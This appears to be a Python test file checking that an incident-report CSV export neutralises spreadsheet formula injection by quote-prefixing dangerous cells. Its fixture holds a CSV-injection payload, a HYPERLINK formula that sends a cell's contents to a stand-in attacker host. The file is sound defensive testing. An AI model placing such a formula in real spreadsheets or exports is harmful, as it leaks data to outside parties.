"""Exposure CSVs open in spreadsheets: text others chose must not run as a formula."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from seawall.incident.model import Exposure
from seawall.incident.report import write_exposures

FORMULA = '=HYPERLINK("https://evil.example/x?"&B2,"Click")'


def _exposure() -> Exposure:
    return Exposure(
        subject="ab12",
        user_id="-1+2",
        org_ids=("@org",),
        categories=("user.contact.email",),
        fields=("$email",),
        provenance="both",
        risk_tier="high",
        file_fields=(FORMULA, "email"),
    )


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    out = tmp_path / "exposures.csv"
    write_exposures(out, [_exposure()])
    with out.open(newline="", encoding="utf-8") as fh:
        row = next(csv.DictReader(fh))
    assert row["file_fields"] == "'" + FORMULA + ";email"
    assert row["user_id"] == "'-1+2"
    assert row["org_ids"] == "'@org"
    assert all(not v.startswith(("=", "+", "-", "@")) for v in row.values())


def test_ndjson_keeps_every_value_exact(tmp_path: Path) -> None:
    out = tmp_path / "exposures.ndjson"
    write_exposures(out, [_exposure()])
    row = json.loads(out.read_text(encoding="utf-8"))
    assert row["file_fields"] == [FORMULA, "email"]
    assert row["user_id"] == "-1+2"
